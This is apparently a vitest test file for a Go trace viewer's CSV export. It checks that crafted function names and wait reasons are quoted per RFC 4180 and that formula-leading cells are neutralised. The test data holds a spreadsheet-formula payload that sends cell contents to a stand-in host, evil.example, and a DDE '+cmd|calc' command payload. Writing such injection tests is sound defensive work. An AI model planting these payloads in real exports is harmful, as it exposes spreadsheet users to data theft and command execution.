// The CSV export of goroutine intervals (the page asks the engine's intervalsCsv through
// exports.ts), on a trace whose function names and wait reasons were crafted to break the CSV or
// to run as spreadsheet formulas.

import { describe, expect, it } from 'vitest';
import { decodedTrace, traceOf } from '../analysis/testTrace';
import { LocalEngine } from '../engine/local';
import { DEFAULT_LANES, type SessionState } from '../store/session';
import { intervalsAsCsv } from './exports';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const { m } = traceOf({
  end: 100,
  events: [
    { t: 0, g: 1, state: 'running', stack: `${EVIL};main.work` },
    { t: 10, g: 1, state: 'waiting', reason: '+cmd|calc,\r\n"x"', stack: `${EVIL};@leaf` },
    { t: 50, g: 1, state: 'runnable', stack: `${EVIL};-leaf` },
  ],
});

const session = {
  files: [{ id: 't', decoded: { format: 'go-trace', model: m } }],
  axis: { traceId: 't' },
  lanes: DEFAULT_LANES,
  selection: null,
  view: null,
} as unknown as SessionState;

describe('intervals as CSV', () => {
  it('quotes per RFC 4180 and neutralises formula-leading cells', async () => {
    const engine = new LocalEngine();
    engine.addFile('t', decodedTrace(m));
    const csv = await intervalsAsCsv(session, engine);
    expect(csv?.rows).toBe(3);
    // Records end with CRLF; the CRLF inside the quoted reason is part of the field.
    expect(csv?.text).toBe(
      [
        'goroutine,start_function,state,reason,start_ns,end_ns,duration_ns,function',
        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",running,,0,10,10,main.work`,
        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",waiting,"'+cmd|calc,\r\n""x""",10,50,40,'@leaf`,
        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",runnable,,50,100,50,'-leaf`,
        '',
      ].join('\r\n'),
    );
  });
});
